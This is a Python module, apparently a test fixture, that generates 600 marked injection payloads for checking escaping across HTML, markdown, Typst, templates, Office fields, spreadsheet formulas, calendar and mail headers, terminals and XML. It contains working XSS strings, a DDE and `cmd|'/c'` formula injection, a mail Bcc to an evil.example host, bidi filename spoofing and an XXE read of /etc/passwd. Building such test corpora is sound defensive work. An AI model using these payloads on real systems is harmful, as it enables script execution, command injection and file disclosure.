"""Payloads: texts that are commands wherever somebody forgets to escape them.

Each holds a marker of its own, by which what became of it is found again.
"""

from __future__ import annotations

from typing import NamedTuple

FORMS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert('{m}')</script>",
        "</script><script>alert('{m}')</script>",
        "<img src={m} onerror=alert(1)>",
        "<svg onload=alert('{m}')>",
        "<svg><script>alert('{m}')</script></svg>",
        "<iframe srcdoc='<script>{m}</script>'></iframe>",
        "<a href='javascript:{m}'>x</a>",
        "<b style='background:url(//{m})'>x</b>",
        "<link rel=stylesheet href=//{m}>",
        "<meta http-equiv=refresh content='0;url=//{m}'>",
        "<base href=//{m}/>",
        "<form action=//{m}><button>x</button></form>",
        "\" onmouseover=alert('{m}') x=\"",
        "' onfocus=alert('{m}') autofocus x='",
        "--><script>alert('{m}')</script>",
        "]]><script>alert('{m}')</script>",
        "</style><script>alert('{m}')</script>",
        "</title><script>alert('{m}')</script>",
        "</textarea><script>alert('{m}')</script>",
        "<details open ontoggle=alert('{m}')>",
        "<object data=//{m}></object>",
        "<math><mi xlink:href='javascript:{m}'>x</mi></math>",
    ),
    "markdown": (
        "[{m}](javascript:alert(1))",
        '![{m}](//evil/{m} "x")',
        "<javascript:{m}>",
        "[{m}]: //evil/{m}",
        "```{m}\n<script>{m}</script>\n```",
        "# {m}\n\n| a | b |\n|---|---|",
        "{m}</td></tr></table><script>{m}</script>",
    ),
    "typst": (
        '#text("DONE" + "{m}")',
        '#("DONE" + "{m}")',
        '#eval("\\"DONE\\" + \\"{m}\\"")',
        '#link("javascript:{m}")[x]',
        '#let x = "DONE" + "{m}"; #x',
        '] #("DONE" + "{m}") [',
        '" + "DONE" + "{m}" + "',
        '$ #("DONE" + "{m}") $',
        '#read("/etc/hostname") {m}',
        "*{m}* _{m}_ `{m}` @{m} <{m}> \\",
    ),
    "template": (
        "{{{{ 7 * 7 }}}}{m}",
        "{{% print 49 %}}{m}",
        "{{{{ ''.__class__ }}}}{m}",
        "${{7*7}}{m}",
        "#{{7*7}}{m}",
        "<%= 7*7 %>{m}",
        "{{0.__class__}}{m}",
        "%(name)s %s %d {m}",
    ),
    "field": (
        '</w:t></w:r><w:fldSimple w:instr="DDEAUTO {m}"/><w:r><w:t>',
        "<w:instrText>INCLUDETEXT {m}</w:instrText>",
        '{{ HYPERLINK "javascript:{m}" }}',
        '</a:t></a:r><a:hlinkClick r:id="{m}"/><a:r><a:t>',
        '<f>HYPERLINK("//{m}")</f>',
        "_x0008_ {m} _x005F_",
    ),
    "formula": (
        '=HYPERLINK("//{m}")',
        "+cmd|'/c {m}'!A1",
        "-2+3+cmd|'{m}'!A1",
        "@SUM(1+1)*{m}",
        "\t=1+1;{m}",
        "\r=1+1;{m}",
        "  =1+1;{m}",
        "\u00a0=1+1;{m}",
        "=1+1;{m}",
        "'=1+1;{m}",
    ),
    "calendar": (
        "x\r\nATTACH:http://{m}",
        "x\nBEGIN:VALARM\nACTION:AUDIO\nATTACH:{m}\nEND:VALARM",
        "x\\nATTACH:{m}",
        "x\rORGANIZER:mailto:{m}",
        ";TZID={m}:x",
        "x\u2028ATTACH:{m}",
        "x\x0bATTACH:{m}",
    ),
    "mail": (
        "x\r\nBcc: {m}@evil.example",
        "x\nSubject: {m}",
        "x\r\n\r\n<script>{m}</script>",
        "{m} <{m}@evil.example>, x",
    ),
    "terminal": (
        "\x1b[2J{m}",
        "\x1b]0;{m}\x07",
        "\x9b31m{m}",
        "\x1b]8;;http://{m}\x07x\x1b]8;;\x07",
        "{m}\x08\x08\x08",
        "\x1bP{m}\x1b\\",
        "{m}\x7f\x00",
    ),
    "direction": (
        "\u202e{m}\u202c",
        "\u2066{m}\u2069",
        "\u200f{m}",
        "\u061c{m}",
        "{m}\u202egnp.exe",
    ),
    "markup": (
        "]]>{m}<![CDATA[",
        "<!--{m}",
        "&{m};",
        "<?{m} ?>",
        "<!DOCTYPE x [<!ENTITY {m} SYSTEM 'file:///etc/passwd'>]>&{m};",
        "\ufffe{m}\uffff",
    ),
}
AROUND = ("{}", "Ana {}", "{} é", "“{}”", "x, {}; y", "1 {}", "{}{}")
WANTED = 600


class Payload(NamedTuple):
    """A text, what it aims at, and how it is found again."""

    family: str
    text: str
    marker: str


def payloads() -> tuple[Payload, ...]:
    """Six hundred, those of a family apart, so that any stretch has some of each."""
    plain = [(family, form) for family, forms in FORMS.items() for form in forms]
    made = []
    for number in range(WANTED):
        family, form = plain[(number * 37) % len(plain)]
        marker = f"zq{number:03d}q"
        text = form.format(m=marker)
        around = AROUND[number // len(plain) % len(AROUND)]
        made.append(Payload(family, around.format(text, text), marker))
    return tuple(made)
